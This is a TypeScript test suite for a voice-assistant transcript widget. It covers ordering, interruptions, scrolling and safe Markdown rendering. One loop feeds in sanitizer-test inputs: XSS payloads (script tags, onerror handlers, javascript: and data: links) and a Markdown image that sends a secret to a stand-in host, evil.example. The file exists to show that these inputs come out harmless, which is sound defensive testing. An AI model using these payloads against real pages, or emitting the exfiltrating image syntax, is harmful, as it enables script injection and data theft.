/** The conversation on screen: who said what, in order, whole, and harmless. */
import { expect } from '@open-wc/testing';
import { answered, event, spoken } from '../support/server-events.js';
import { clear, visit, type Visitor } from './visitor.js';

const SPEAKERS = /^(You|Assistant): /;

/** A visitor in a call, with the transcript on screen. */
async function reading(): Promise<Visitor> {
  const visitor = await visit({ transcript: '' });
  await visitor.talk();
  await visitor.appears('transcript');
  await visitor.hears(...spoken('first', 'Hello?', null));
  await visitor.appears('message');
  return visitor;
}

/** Each message as it is heard by a screen reader. */
const messages = (visitor: Visitor): string[] =>
  [...visitor.root.querySelectorAll('.message')].map((row) => row.textContent);

const last = (visitor: Visitor): Element => {
  const row = [...visitor.root.querySelectorAll('.message')].at(-1);
  if (!row) throw new Error('Nothing was said.');
  return row;
};

describe('the transcript', () => {
  afterEach(clear);

  it('shows what both said, in the order of the conversation', async () => {
    const visitor = await reading();
    // The answer is there before the words of the question are.
    const [started, ...rest] = spoken('q', 'When are you open?', 'first');
    await visitor.hears(started!, ...answered('resp_1', 'a', 'At nine.', 'q'));
    expect(messages(visitor)).to.deep.equal(['You: Hello?', 'You: ', 'Assistant: At nine.']);
    await visitor.hears(...rest);
    expect(messages(visitor)).to.deep.equal([
      'You: Hello?',
      'You: When are you open?',
      'Assistant: At nine.',
    ]);
  });

  it('marks an answer that was stopped', async () => {
    const visitor = await reading();
    await visitor.hears(
      ...answered('resp_1', 'a', 'Once upon a time', 'first', { interrupted: true }),
    );
    expect(last(visitor).textContent).to.match(/^Assistant: .*\(interrupted\)$/);
  });

  it('shows no message for silence', async () => {
    const visitor = await reading();
    await visitor.hears(...spoken('cough', '', 'first'));
    expect(messages(visitor)).to.deep.equal(['You: Hello?']);
  });

  it('takes away what was deleted', async () => {
    const visitor = await reading();
    await visitor.hears(event('conversation.item.deleted', { item_id: 'first' }));
    expect(messages(visitor)).to.deep.equal([]);
  });

  it('stays after the call, and begins anew with the next one', async () => {
    const visitor = await reading();
    await visitor.hangUp();
    expect(messages(visitor)).to.deep.equal(['You: Hello?']);
    await visitor.talk();
    expect(messages(visitor)).to.deep.equal([]);
  });

  it('can be switched on in a call', async () => {
    const visitor = await visit();
    await visitor.talk();
    await visitor.hears(...spoken('first', 'Hello?', null));
    visitor.element.transcript = true;
    await visitor.appears('message');
    expect(messages(visitor)).to.deep.equal(['You: Hello?']);
  });

  it('follows the conversation, unless the visitor reads what was before', async () => {
    const visitor = await reading();
    const list = visitor.part('transcript');
    const story = (n: number) => answered(`resp_${n}`, `a${n}`, 'A long story. '.repeat(40), null);
    await visitor.hears(...story(1), ...story(2), ...story(3));
    const isAtEnd = () => list.scrollHeight - list.scrollTop - list.clientHeight < 2;
    await visitor.until(() => list.scrollTop > 0 && isAtEnd());
    const scrolled = new Promise((resolve) => {
      list.addEventListener('scroll', resolve, { once: true });
    });
    list.scrollTop = 0;
    await scrolled;
    await visitor.hears(...story(4));
    await visitor.until(() => !visitor.part('latest-button').hidden);
    expect(list.scrollTop).to.equal(0);
    await visitor.press('latest-button');
    await visitor.until(isAtEnd);
    expect(visitor.part('latest-button').hidden).to.equal(true);
  });

  it('touches one message when one grows, however long the conversation is', async () => {
    const visitor = await reading();
    const turns = Array.from({ length: 120 }, (_, n) =>
      spoken(`u${n}`, 'And then?', n === 0 ? 'first' : `u${n - 1}`),
    );
    await visitor.hears(...turns.flat());
    const touched = new Set<Node>();
    const watching = new MutationObserver((changes) => {
      for (const { target } of changes) touched.add(target);
    });
    const everything = { childList: true, characterData: true, attributes: true, subtree: true };
    watching.observe(visitor.part('transcript'), everything);
    await visitor.hears(
      event('response.output_audio_transcript.delta', { item_id: 'a', delta: 'Once ' }),
    );
    await visitor.hears(
      event('response.output_audio_transcript.delta', { item_id: 'a', delta: 'upon' }),
    );
    // The page that it is put on, the row, its words.
    expect(touched.size).to.be.within(1, 4);
    expect(messages(visitor).at(-1)).to.equal('Assistant: Once upon');
    expect(visitor.root.querySelectorAll('.transcript > ol')).to.have.length(2);
    watching.disconnect();
  });

  it('says so when the filter of the service has stopped an answer', async () => {
    const visitor = await reading();
    await visitor.hears(...answered('resp_1', 'a', 'Well, you', 'first'));
    await visitor.hears(
      event('response.done', {
        response: {
          id: 'resp_1',
          status: 'incomplete',
          status_details: { type: 'incomplete', reason: 'content_filter' },
          output: [{ id: 'a', type: 'message' }],
        },
      }),
    );
    expect(last(visitor).textContent).to.contain('(stopped by the content filter of the service)');
  });

  it('draws small Markdown of the agent, and nothing else', async () => {
    const visitor = await reading();
    const text = [
      'We have **two** kinds:',
      '',
      '- *ferns*',
      '- `cactuses`',
      '',
      'See [the shop](https://shop.example/plants).',
    ].join('\n');
    await visitor.hears(...answered('resp_1', 'a', text, 'first'));
    // Its parser comes with the first answer that needs it.
    await visitor.until(() => tags(last(visitor)).includes('strong'));
    const row = last(visitor);
    expect(tags(row)).to.include.members(['p', 'strong', 'ul', 'li', 'em', 'code', 'a']);
    const link = row.querySelector('a');
    expect(link?.href).to.equal('https://shop.example/plants');
    expect(link?.rel).to.contain('noopener');
    expect(link?.target).to.equal('_blank');
  });

  for (const text of ['Hello **wor', 'Hello *you*, see https', 'On *one* side:\n\n2.']) {
    it(`draws all of what is left of an answer: ${JSON.stringify(text)}`, async () => {
      const visitor = await reading();
      const whole = answered('resp_1', 'a', 'Hello **world**, here is a long story', 'first');
      await visitor.hears(...whole);
      await visitor.until(() => tags(last(visitor)).includes('strong'));
      await visitor.hears(
        event('response.output_audio_transcript.done', { item_id: 'a', transcript: text }),
      );
      const words = text.replace(/[*\n]/g, '');
      expect(last(visitor).textContent).to.equal(`Assistant: ${words}`);
    });
  }

  for (const text of [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '![secret](https://evil.example/?q=secret)',
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](data:text/html,<script>alert(1)</script>)',
    '[click](\u0001javascript:alert(1))',
    '[click](https://a.example" onclick="alert(1))',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '| a | b |\n|---|---|\n| ![x](https://evil.example) | c |',
    '# Heading\n\n> quote\n\n---\n\n- [ ] task\n\n$$x$$',
    '```html\n<b>x</b>\n```',
    '*'.repeat(2_000),
    '['.repeat(2_000),
    `${'> '.repeat(500)}deep`,
    '\u202egnp.exe',
  ]) {
    it(`is not harmed by ${JSON.stringify(text.slice(0, 40))}`, async () => {
      const visitor = await reading();
      await visitor.hears(...answered('resp_1', 'a', text, 'first'));
      const row = last(visitor);
      expect(tags(row).filter((tag) => !DRAWN.has(tag))).to.deep.equal([]);
      for (const link of row.querySelectorAll('a[href]')) {
        expect((link as HTMLAnchorElement).protocol).to.be.oneOf([
          'http:',
          'https:',
          'mailto:',
          'tel:',
        ]);
      }
      for (const element of row.querySelectorAll('*')) {
        const names = element.getAttributeNames();
        expect(names.filter((name) => name.startsWith('on') || name === 'style')).to.deep.equal([]);
      }
      expect(row.textContent).to.match(SPEAKERS);
    });

    it(`takes the visitor’s ${JSON.stringify(text.slice(0, 40))} for text`, async () => {
      const visitor = await reading();
      await visitor.hears(...spoken('q', text, 'first'));
      expect(tags(last(visitor))).to.deep.equal(['span', 'div']);
      expect(last(visitor).textContent).to.equal(`You: ${text}`);
    });
  }
});

/** Whatever a message may consist of. */
const DRAWN = new Set('span div p blockquote br ul ol li em strong s code pre a'.split(' '));

const tags = (row: Element): string[] =>
  [...row.querySelectorAll('*')].map(({ localName }) => localName);
